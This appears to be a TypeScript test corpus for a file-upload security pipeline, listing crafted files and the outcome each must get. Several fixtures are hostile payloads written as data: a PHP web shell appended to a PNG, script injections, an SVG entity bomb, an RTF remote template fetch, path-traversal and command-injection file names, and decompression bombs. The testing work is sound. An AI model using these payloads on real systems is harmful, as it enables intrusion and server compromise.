// The upload corpus: every file of security.md 3.2 that a person could send, and what must become of it.
import { randomBytes } from 'node:crypto';
import sharp from 'sharp';
import type { Refusal } from '#app/domain/document/document-types.ts';
import { hasProgram } from '#app/domain/preview/cage.server.ts';
import { eicar } from '../clamd.js';
import * as archives from './archives.ts';
import { media } from './media.ts';
import { doc, lockedPackage, older } from './ole.ts';
import * as papers from './papers.ts';
import * as pictures from './pictures.ts';

/**
 * What becomes of a file. `refused`: it is not taken, with words. The rest was taken: `ready` has pictures of its pages,
 * `none` is of a kind that has none, and the others say why not. `infected` and `not clean` never open.
 */
export type Outcome = 'refused' | 'ready' | 'none' | 'unreadable' | 'locked' | 'too_complex' | 'infected' | 'not clean';

export type CorpusFile = {
  id: string;
  about: string;
  /** As the person's program would call it. */
  name: string;
  bytes: () => Buffer | Promise<Buffer>;
  /** More than one: where it depends on a program that may be absent, or on how much a scanner looks into. */
  outcome: Outcome | readonly Outcome[];
  /** Why it is refused. */
  says?: Refusal;
  /** How many pages have a picture, when `ready`. */
  pages?: number;
  /** The picture must show the four corners where they belong. */
  upright?: true;
  /** The picture must show words, and not an empty page. */
  inked?: true;
};

const file = (id: string, about: string, name: string, outcome: CorpusFile['outcome'], bytes: CorpusFile['bytes'], more: Partial<CorpusFile> = {}): CorpusFile => ({ id, about, name, bytes, outcome, ...more });
const text = (words: string) => () => Buffer.from(words);
const cut = (bytes: Buffer, share: number) => bytes.subarray(0, Math.floor(bytes.length * share));
const flipped = (bytes: Buffer, at: number) => {
  const bent = Buffer.from(bytes);
  for (let n = 0; n < 40; n += 1) bent[Math.floor(bent.length * at) + n * 3]! ^= 0x55;
  return bent;
};
/** It is not taken, and this is what the person reads: `documents:refused.<says>`. */
const refused = (id: string, about: string, name: string, says: Refusal, bytes: CorpusFile['bytes']): CorpusFile => ({ id, about, name, bytes, outcome: 'refused', says });
/** Without an office program, which nobody needs, there are no pictures of these. */
const office = (part: string): Outcome => (['soffice', `libreoffice-${part}`].every(hasProgram) ? 'ready' : 'none');
const [letter, sheet, slides] = [office('writer'), office('calc'), office('impress')];
const upright = { pages: 1, upright: true } as const;
const tail = (words: string) => async () => Buffer.concat([await pictures.png(), Buffer.from(words)]);

/** Names that are no names for a disk (F14). */
const oddNames = ['../../etc/passwd', '..\\..\\boot.ini', 'a\0.pdf', 'CON', '.htaccess', '-rf', 'x'.repeat(300), '😀'.repeat(63), 'gpj.\u202etxt', 'a. ', '%2e%2e%2f', '"a"\r\nX: y;.png', 'صورة.png', 'Gia\u0302\u0301y to\u031b\u0300.png', '$(touch /tmp/p).png'];

export const corpus: readonly CorpusFile[] = [
  refused('F01', 'nothing', 'a.jpg', 'empty', () => Buffer.alloc(0)),
  refused('F01', 'one byte', 'a.jpg', 'type', () => Buffer.of(1)),
  refused('F02', 'a program called a photo', 'a.jpg', 'program', () => Buffer.concat([Buffer.from('MZ'), randomBytes(500)])),
  refused('F02', 'a program of Linux called a photo', 'a.jpg', 'program', () => Buffer.concat([Buffer.from('\u007fELF', 'latin1'), randomBytes(500)])),
  file('F02', 'a photo called a PDF', 'a.pdf', 'ready', pictures.jpeg, upright),
  file('F02', 'a PDF called a photo', 'a.jpg', 'ready', () => papers.pdf(), { pages: 1 }),
  refused('F02', 'noise', 'a.jpg', 'type', () => randomBytes(5_000)),

  refused('F03', 'harm, plain', 'a.txt', 'type', text(eicar)),
  refused('F03', 'harm in an archive', 'a.zip', 'archive', archives.harmful.zip),
  file('F03', 'harm in a letter of Word', 'a.docx', 'infected', archives.harmful.docx),
  file('F03', 'harm in a letter of LibreOffice', 'a.odt', 'infected', archives.harmful.odt),
  file('F03', 'harm in an archive in a letter', 'a.docx', 'infected', archives.harmful.nested),
  file('F03', 'harm in a file in a PDF', 'a.pdf', 'infected', () => papers.pdf({ catalog: '/Names << /EmbeddedFiles << /Names [(a) 100 0 R] >> >>', more: ['<< /Type /Filespec /F (a) /EF << /F 101 0 R >> >>', `<< /Type /EmbeddedFile /Length ${eicar.length} >>\nstream\n${eicar}\nendstream`] })),
  file('F03', 'harm behind a photo', 'a.jpg', 'infected', async () => Buffer.concat([await pictures.jpeg(), Buffer.from(eicar)])),

  refused('F04', 'a PDF with a password for readers', 'a.pdf', 'locked', () => papers.lockedPdf({ user: 'geheim', owner: 'baas' })),
  file('F04', 'a PDF with a password for its owner alone', 'a.pdf', 'ready', () => papers.lockedPdf({ user: '', owner: 'baas' }), { pages: 1 }),
  refused('F04', 'a letter of which a part is locked', 'a.docx', 'locked', archives.lockedDocx),
  refused('F04', 'a letter of Word with a password', 'a.docx', 'locked', () => lockedPackage(archives.docx(), 'geheim')),
  refused('F04', 'an old letter of Word with a password', 'a.doc', 'locked', () => doc({ locked: true })),
  file('F04', 'an old letter of Word that is open', 'a.doc', ['none', 'ready', 'unreadable'], () => doc({ locked: false })),
  refused('F04', 'an archive with a password', 'a.zip', 'archive', () => archives.zip([{ name: 'a.txt', bytes: Buffer.from('x'), locked: true }])),

  ...Object.entries(papers.hostilePdfs).map(([about, bytes]) => file('F05', `a PDF with ${about}`, 'a.pdf', 'ready', bytes, { pages: 1 })),
  file('F05', 'a PDF of ten thousand pages', 'a.pdf', 'too_complex', () => papers.pdf({ pages: 10_000 })),
  file('F05', 'a PDF of three pages', 'a.pdf', 'ready', () => papers.pdf({ pages: 3 }), { pages: 3 }),
  file('F05', 'a PDF whose contents point at themselves', 'a.pdf', ['ready', 'unreadable'], papers.loopedPdf),
  file('F05', 'a PDF whose pages contain each other', 'a.pdf', ['ready', 'unreadable', 'too_complex'], papers.endlessTreePdf),
  file('F05', 'a PDF with a bomb of JBIG2', 'a.pdf', ['ready', 'unreadable', 'too_complex'], papers.jbig2Pdf),
  file('F05', 'a PDF with a page of five metres', 'a.pdf', 'ready', papers.widePdf, { pages: 1 }),
  file('F05', 'a PDF in Arabic', 'a.pdf', 'ready', papers.arabicPdf, { pages: 1 }),

  refused('F06', 'a page of HTML called a PDF', 'a.pdf', 'type', text('<!doctype html><script>alert(1)</script>')),
  file('F06', 'a PDF that is HTML as well', 'a.pdf', 'ready', () => Buffer.concat([papers.pdf(), Buffer.from('<html><script>alert(1)</script></html>')]), { pages: 1 }),
  file('F06', 'a PDF that is an archive as well', 'a.pdf', ['ready', 'infected'], () => Buffer.concat([papers.pdf(), archives.zip([{ name: 'a.class', bytes: Buffer.from('x') }])])),
  refused('F06', 'a picture that is an archive as well', 'a.gif', 'type', async () => Buffer.concat([await pictures.moving('gif'), archives.nestedZip(1)])),
  file('F06', 'a picture with PHP behind it', 'a.png', 'ready', tail('<?php system($_GET[0]); ?>'), upright),
  file('F06', 'a picture with a page of HTML behind it', 'a.png', 'ready', tail('<script>alert(1)</script>'), upright),
  refused('F06', 'a GIF that says it is a PDF', 'a.pdf', 'type', text('GIF89a%PDF-1.7')),

  refused('F07', 'a drawing with a script', 'a.svg', 'type', text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')),
  refused('F07', 'a drawing that fetches a picture', 'a.svg', 'type', text('<svg xmlns="http://www.w3.org/2000/svg"><image href="http://192.0.2.1/a.png"/></svg>')),
  refused('F07', 'a drawing that multiplies', 'a.svg', 'type', text('<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>')),

  file('F08', 'a PNG of 3,600 million points', 'a.png', 'too_complex', () => pictures.hugePng(60_000, 60_000)),
  file('F08', 'a JPEG of 4,290 million points', 'a.jpg', 'too_complex', pictures.hugeJpeg),
  file('F08', 'a HEIC of 4,225 million points', 'a.heic', 'too_complex', pictures.hugeHeic),
  file('F08', 'a HEIC of 400 million points that says so late', 'a.heic', 'too_complex', pictures.lateHugeHeic),
  refused('F08', 'a GIF of many frames', 'a.gif', 'type', () => pictures.moving('gif')),
  refused('F08', 'a TIFF', 'a.tif', 'type', async () => sharp(await pictures.png()).tiff().toBuffer()),
  file('F08', 'a JPEG of hundreds of scans', 'a.jpg', ['ready', 'too_complex', 'unreadable', 'not clean'], () => pictures.manyScans(400)),

  file('F09', 'a letter that is 300 MB unpacked', 'a.docx', ['too_complex', 'not clean'], () => archives.docxBomb(300)),
  file('F09', 'a letter of five thousand parts', 'a.docx', ['too_complex', 'not clean'], () => archives.crowdedDocx(5_000)),
  refused('F09', 'archives in archives, ten deep', 'a.zip', 'archive', () => archives.nestedZip(10)),
  file('F09', 'a letter with names that climb out', 'a.docx', [letter, 'unreadable'], archives.climbingDocx),
  file('F09', 'a letter whose list says something else', 'a.docx', [letter, 'unreadable'], archives.twoFacedDocx),

  ...[1, 2, 3, 4, 5, 6, 7, 8].map((n) => file('F10', `a photo of a phone that was held in way ${n}`, 'IMG_0412.jpg', 'ready', () => pictures.orientated(n), upright)),
  file('F10', 'a HEIC of one piece', 'IMG_0412.HEIC', 'ready', () => pictures.heic(), upright),
  file('F10', 'a HEIC of one piece, turned', 'IMG_0412.HEIC', 'ready', () => pictures.heic(6), upright),
  file('F10', 'a photo of an iPhone in tiles, turned by a box', 'IMG_0413.HEIC', 'ready', pictures.tiledHeic, upright),
  file('F10', 'a HEIC of ten bits with a small picture beside it', 'IMG_0414.HEIC', 'ready', pictures.deepHeic, upright),
  file('F10', 'AVIF', 'a.avif', 'ready', pictures.avif, upright),
  file('F10', 'WebP', 'a.webp', 'ready', pictures.webp, upright),
  file('F10', 'a WebP that moves', 'a.webp', 'ready', () => pictures.moving('webp'), upright),
  file('F10', 'a JPEG in CMYK', 'a.jpg', 'ready', pictures.cmyk, upright),
  file('F10', 'a PNG of sixteen bits', 'a.png', 'ready', pictures.deep, upright),
  file('F10', 'a PNG that one can see through', 'a.png', 'ready', pictures.seeThrough, { pages: 1 }),
  file('F10', 'a grey JPEG that comes in steps', 'a.jpg', 'ready', pictures.grey, { pages: 1 }),
  file('F10', '48 megapixels', 'a.jpg', 'ready', pictures.large, { pages: 1 }),

  refused('F11', 'a film that is too large', 'a.mp4', 'tooLarge', () => media.mp4(51)),
  file('F11', 'a film', 'a.mp4', 'none', () => media.mp4()),
  file('F11', 'a film of an iPhone', 'a.mov', 'none', media.mov),
  file('F11', 'a film of an old phone', 'a.3gp', 'none', media.threegp),
  file('F11', 'a voice note', 'a.amr', 'none', media.amr),
  file('F11', 'a voice note of WhatsApp', 'a.opus', 'none', media.opus),
  file('F11', 'a song', 'a.mp3', 'none', media.mp3),

  refused('F12', 'half a JPEG', 'a.jpg', 'damaged', async () => cut(await pictures.jpeg(), 0.5)),
  refused('F12', 'a tenth of a JPEG', 'a.jpg', 'damaged', async () => cut(await pictures.large(), 0.1)),
  refused('F12', 'half a PDF', 'a.pdf', 'damaged', () => cut(papers.pdf({ pages: 3 }), 0.3)),
  refused('F12', 'half a HEIC', 'a.heic', 'damaged', async () => cut(await pictures.heic(), 0.5)),
  refused('F12', 'half a film', 'a.mp4', 'damaged', () => cut(media.mp4(), 0.5)),
  file('F12', 'a JPEG with bits that fell over', 'a.jpg', ['ready', 'unreadable'], async () => flipped(await pictures.jpeg(), 0.6)),
  file('F12', 'a PDF with bits that fell over', 'a.pdf', ['ready', 'unreadable'], () => flipped(papers.pdf(), 0.4)),
  file('F12', 'a PNG with bits that fell over', 'a.png', ['ready', 'unreadable'], async () => flipped(await pictures.png(), 0.5)),
  file('F12', 'a JPEG with rubbish behind it', 'a.jpg', 'ready', async () => Buffer.concat([await pictures.jpeg(), randomBytes(10_000)]), upright),

  file('F13', 'a photo with place, serial numbers and a name', 'a.jpg', 'ready', pictures.jpeg, upright),
  file('F13', 'a PDF with a name', 'a.pdf', 'ready', () => papers.hostilePdfs['an author and a title']!(), { pages: 1 }),
  file('F13', 'a letter with a history', 'a.docx', letter, () => archives.docx('Hallo', [{ name: 'docProps/core.xml', bytes: Buffer.from('<cp:coreProperties xmlns:cp="x"><creator>Zwartkop8101</creator></cp:coreProperties>') }])),

  ...oddNames.map((name) => file('F14', `a name of a file: ${JSON.stringify(name).slice(0, 30)}`, name, 'ready', pictures.webp, upright)),

  file('F15', 'a letter of Word', 'a.docx', letter, () => archives.docx(), { pages: 1, inked: true }),
  file('F15', 'a sheet of Excel', 'a.xlsx', sheet, archives.xlsx, { pages: 1, inked: true }),
  file('F15', 'slides of PowerPoint', 'a.pptx', slides, archives.pptx, { pages: 2, inked: true }),
  file('F15', 'a letter of LibreOffice', 'a.odt', letter, () => archives.odt(), { pages: 1, inked: true }),
  file('F15', 'a sheet of LibreOffice', 'a.ods', sheet, archives.ods, { pages: 1, inked: true }),
  file('F15', 'slides of LibreOffice', 'a.odp', slides, archives.odp, { pages: 1, inked: true }),
  file('F15', 'a letter of Word of before 2007', 'a.doc', letter, () => older('doc', archives.docx()), { pages: 1, inked: true }),
  file('F15', 'a sheet of Excel of before 2007', 'a.xls', sheet, () => older('xls', archives.xlsx()), { pages: 1, inked: true }),
  file('F15', 'slides of PowerPoint of before 2007', 'a.ppt', slides, () => older('ppt', archives.pptx()), { pages: 2, inked: true }),
  refused('F15', 'a letter with a macro', 'a.docm', 'macro', archives.macroDocx),
  refused('F15', 'an old file of Microsoft', 'a.doc', 'type', archives.ole),
  refused('F15', 'RTF', 'a.rtf', 'type', text('{\\rtf1{\\*\\template http://192.0.2.1/a.dotm}}')),
  file('F15', 'a letter with a picture from elsewhere', 'a.odt', letter, archives.remoteOdt),
  refused('F15', 'a shortcut', 'a.url', 'type', text('[InternetShortcut]\r\nURL=http://192.0.2.1/\r\n')),
  refused('F15', 'a mail', 'a.eml', 'type', text('From: a@example.org\r\nSubject: x\r\n\r\nx')),
  refused('F15', 'a conversation of WhatsApp', 'chat.zip', 'archive', () => archives.zip([{ name: '_chat.txt', bytes: Buffer.from('x') }])),
];
